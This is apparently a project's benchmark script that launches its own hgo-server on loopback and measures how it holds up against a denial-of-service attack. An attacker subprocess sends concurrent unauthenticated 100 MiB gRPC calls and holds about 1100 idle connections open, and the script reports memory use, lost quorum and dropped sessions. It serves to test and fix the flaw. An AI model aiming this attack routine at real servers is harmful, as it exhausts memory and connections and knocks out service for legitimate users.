"""Unauthenticated memory exhaustion against an hgo-server process (issue 10, observation 4).

Starts ``hgo-server`` (any build: ``--server-bin`` picks it, so an older build can be
measured the same way) on loopback with a tokens file, five honest protocol clients
(``tests/wireclient.py``: heartbeats, a zero gradient for every task), then sends
``--calls`` concurrent *unauthenticated* Status calls with ``--mib`` MiB bodies from a
connection of their own, and opens ``--idle`` TCP connections that never speak; the
attacker is a process of its own (``--attack PORT``), so it does not starve the honest
clients' event loop. Prints
the server's RSS (``VmRSS``) and peak RSS (``VmHWM``) before and after, the rounds run
during the attack, how many lacked quorum, the round-time p99, and how many honest
sessions the server dropped (``leave ... reason=heartbeat-timeout`` in its log).

    .venv/bin/python bench/bench_adversarial.py --mib 100 --calls 16 --idle 1100
    .venv/bin/python bench/bench_adversarial.py --server-bin ../main/.venv/bin/hgo-server
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import os
import re
import signal
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import grpc
import grpc.aio

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from hgo_common import roundlog  # noqa: E402
from hgo_common.net import credentials  # noqa: E402
from hgo_common.net.proto import hgo_pb2_grpc  # noqa: E402
from tests.wireclient import WireClient  # noqa: E402


def vm_mib(pid: int, field: str) -> float:
    m = re.search(rf"^{field}:\s+(\d+) kB", Path(f"/proc/{pid}/status").read_text(), re.M)
    return int(m.group(1)) / 1024 if m else float("nan")


async def attack(port: int, mib: int, calls: int, idle: int, hold: float) -> None:
    """The attacker process: big unauthenticated calls, then idle connections held open."""
    import resource

    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # the attacker is not the one limited
    opts = [("grpc.max_send_message_length", 2**31 - 1), ("grpc.use_local_subchannel_pool", 1)]
    async with grpc.aio.insecure_channel(f"127.0.0.1:{port}", options=opts) as attacker:
        body = b"\x00" * (mib * 2**20)
        status = attacker.unary_unary(
            "/hgo.v1.HGO/Status", request_serializer=None, response_deserializer=None
        )

        async def call() -> str:
            try:
                await status(body, timeout=120)
            except grpc.aio.AioRpcError as exc:
                return str(exc.code().name)
            return "OK"

        t0 = time.monotonic()
        codes = await asyncio.gather(*(call() for _ in range(calls)))
        print(f"calls {sorted(set(codes))} {time.monotonic() - t0:.1f}", flush=True)
    socks = []
    for _ in range(idle):
        with contextlib.suppress(OSError):
            socks.append(socket.create_connection(("127.0.0.1", port), timeout=5))
    print(f"idle {len(socks)}", flush=True)
    await asyncio.sleep(hold)
    for sk in socks:
        sk.close()


async def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--attack", type=int, metavar="PORT", help=argparse.SUPPRESS)
    ap.add_argument("--server-bin", default=str(Path(sys.executable).parent / "hgo-server"))
    ap.add_argument("--mib", type=int, default=100, help="body size of each unauthenticated call")
    ap.add_argument("--calls", type=int, default=16)
    ap.add_argument("--idle", type=int, default=1100, help="idle TCP connections")
    ap.add_argument("--hold", type=float, default=5.0, help="seconds to keep training after the attack")
    args = ap.parse_args()
    if args.attack:
        await attack(args.attack, args.mib, args.calls, args.idle, args.hold)
        return

    work = Path(tempfile.mkdtemp(prefix="hgo-adv-"))
    tokens = work / "tokens"
    names = [f"honest-{i}" for i in range(5)]
    tokens.write_text("".join(f"{n} tok-{n}-0123456789\n" for n in names))
    tokens.chmod(0o600)
    port_file, log_path, server_log = work / "port", work / "rounds.jsonl", work / "server.log"
    argv = [
        args.server_bin, "--port", "0", "--port-file", str(port_file), "--dataset", "digits",
        "--model", "mlp", "--q", "5", "--v", "3", "--tau", "100ms", "--no-early-close",
        "--rounds", "100000", "--eval-every", "0", "--min-workers", "5", "--heartbeat-ms", "500",
        "--tokens-file", str(tokens), "--log", str(log_path),
    ]  # fmt: skip
    env = {**os.environ, "PYTHONDONTWRITEBYTECODE": "1", "OPENBLAS_NUM_THREADS": "1"}
    with open(server_log, "wb") as out:
        proc = subprocess.Popen(argv, stdout=out, stderr=subprocess.STDOUT, env=env, start_new_session=True)
    try:
        while not port_file.exists():
            if proc.poll() is not None:
                raise SystemExit(server_log.read_text())
            await asyncio.sleep(0.1)
        port = int(port_file.read_text())
        async with grpc.aio.insecure_channel(f"127.0.0.1:{port}") as ch:
            stub = hgo_pb2_grpc.HGOStub(ch)
            honest = []
            for n in names:
                c = WireClient(stub, credentials.bearer_metadata(f"tok-{n}-0123456789"))
                await c.join(name=n)
                c.respond(record=False)
                honest.append(c)
            while not log_path.exists():
                await asyncio.sleep(0.1)
            await asyncio.sleep(1.0)
            rss0, peak0 = vm_mib(proc.pid, "VmRSS"), vm_mib(proc.pid, "VmHWM")
            k0 = len(roundlog.read(log_path))
            att = await asyncio.create_subprocess_exec(
                sys.executable, __file__, "--attack", str(port), "--mib", str(args.mib), "--calls",
                str(args.calls), "--idle", str(args.idle), "--hold", str(args.hold),
                stdout=asyncio.subprocess.PIPE, start_new_session=True,
            )  # fmt: skip
            assert att.stdout is not None
            calls_line = (await att.stdout.readline()).decode().split()
            codes, t_calls = calls_line[1:-1], float(calls_line[-1])
            peak1 = vm_mib(proc.pid, "VmHWM")
            n_idle = int((await att.stdout.readline()).decode().split()[1])
            # a new connection (its own subchannel): it needs a file descriptor on the server
            fresh = grpc.aio.insecure_channel(
                f"127.0.0.1:{port}", options=[("grpc.use_local_subchannel_pool", 1)]
            )
            token = credentials.bearer_metadata("tok-honest-0-0123456789")
            late = WireClient(hgo_pb2_grpc.HGOStub(fresh), token)
            t_join = time.monotonic()
            joined = "yes"
            try:
                await late.join(timeout=30, name="honest-0 again")
                late.respond(record=False)
            except BaseException as exc:  # the measurement reports it
                joined = f"no ({type(exc).__name__})"
            t_join = time.monotonic() - t_join
            rss1, peak2 = vm_mib(proc.pid, "VmRSS"), vm_mib(proc.pid, "VmHWM")
            await att.wait()
            await late.close()
            await fresh.close()
            for c in honest:
                await c.close()
        records = roundlog.read(log_path)[k0:]
        ms = sorted(r["round_ms"] for r in records) or [float("nan")]
        no_q = sum(not r["quorum"] for r in records)
        dropped = len(re.findall(r"reason=heartbeat-timeout", server_log.read_text(errors="replace")))
        print(
            f"server {args.server_bin} (logs in {work})\n"
            f"{args.calls} unauthenticated Status calls x {args.mib} MiB: {' '.join(codes)} "
            f"in {t_calls:.1f} s\n"
            f"RSS {rss0:.0f} MiB -> {rss1:.0f} MiB; peak {peak0:.0f} -> {peak1:.0f} (after the calls) -> "
            f"{peak2:.0f} MiB\n"
            f"{n_idle} idle TCP connections opened; an honest worker joined: {joined} ({t_join:.2f} s)\n"
            f"rounds during and after: {len(records)}, without quorum {no_q}, "
            f"round_ms p50 {ms[len(ms) // 2]:.0f} p99 {ms[int(0.99 * (len(ms) - 1))]:.0f} max {ms[-1]:.0f}; "
            f"honest sessions dropped by the server: {dropped}"
        )
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGTERM)
        with contextlib.suppress(subprocess.TimeoutExpired):
            proc.wait(10)
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGKILL)


if __name__ == "__main__":
    asyncio.run(main())
